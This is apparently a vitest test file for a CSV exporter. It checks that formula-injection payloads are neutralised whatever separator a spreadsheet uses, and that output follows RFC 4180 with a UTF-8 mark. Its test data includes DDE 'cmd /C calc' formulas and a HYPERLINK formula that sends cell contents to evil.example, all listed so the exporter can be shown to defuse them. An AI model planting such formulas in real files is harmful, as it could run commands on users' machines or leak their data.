import { expect, it } from 'vitest'
import { csvOf } from './csv.ts'

const commands = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?"&A1,"x")',
  'SUM(A1:A9)',
  'DDE("cmd";"/C calc";"x")',
]
const starts = ['=', '+', '-', '@', '＝', '\t=', ' =', '\uFEFF=']
/** Forty formulas, as they stand, after spaces and marks nobody sees; then hidden behind what else may part cells. */
const formulas = starts.flatMap((start) => commands.map((command) => start + command))
const hidden = [
  'a;=1+1',
  'a\t=1+1',
  'a\r\n=1+1',
  'a\n@SUM(1)',
  '";=1+1',
  'a|-1+1',
  'a; "=1+1',
  '\u200B\u200B=1+1',
  '\u00A0=1+1',
]

async function fileOf(cells: readonly string[]): Promise<string> {
  const pages = (async function* () {
    yield cells.map((cell) => [cell, 'end'])
  })()
  let file = ''
  for await (const piece of csvOf(['Text', 'End'], pages)) file += piece
  return file
}

/** As RFC 4180 has it, or as a spreadsheet does whose cells are parted by something else. */
function cellsOf(file: string, separator: string): string[] {
  const cells: string[] = []
  let cell = ''
  let isQuoted = false
  for (let at = 0; at < file.length; at++) {
    const character = file.charAt(at)
    if (isQuoted && character === '"' && file.charAt(at + 1) === '"') cell += file.charAt(++at)
    else if (character === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted
    else if (!isQuoted && (character === separator || character === '\n')) {
      cells.push(cell.replace(/\r$/, ''))
      cell = ''
    } else cell += character
  }
  return cells
}

const wouldRun = (cell: string) => /^[\s\p{Cf}"]*[=+\-@＝＋－＠]/u.test(cell)

it('no formula is live in a file, whatever parts its cells', async () => {
  expect(formulas).toHaveLength(40)
  expect(formulas.filter((formula) => !wouldRun(formula))).toEqual([])
  const file = await fileOf([...formulas, ...hidden])
  for (const separator of [',', ';', '\t', '|']) expect(cellsOf(file, separator).filter(wouldRun)).toEqual([])
  for (const line of file.split(/[\r\n]+/)) expect(wouldRun(line)).toBe(false)
})

it('a file is UTF-8 with its mark, every cell quoted, lines ended as RFC 4180 says, other texts as they were', async () => {
  const texts = ['Señor "X", 5 – 6', 'a-b=c', '٤٢', 'two\nlines', '']
  const file = await fileOf(texts)
  expect(file.startsWith('\uFEFF"Text","End"\r\n"Señor ""X"", 5 – 6","end"\r\n')).toBe(true)
  expect(cellsOf(file.slice(1), ',').filter((_cell, index) => index % 2 === 0)).toEqual(['Text', ...texts])
})

it('a row of invisible marks takes no time', async () => {
  const began = process.cpuUsage()
  await fileOf(['\ufeff'.repeat(24)])
  expect(process.cpuUsage(began).user / 1000).toBeLessThan(2000)
})
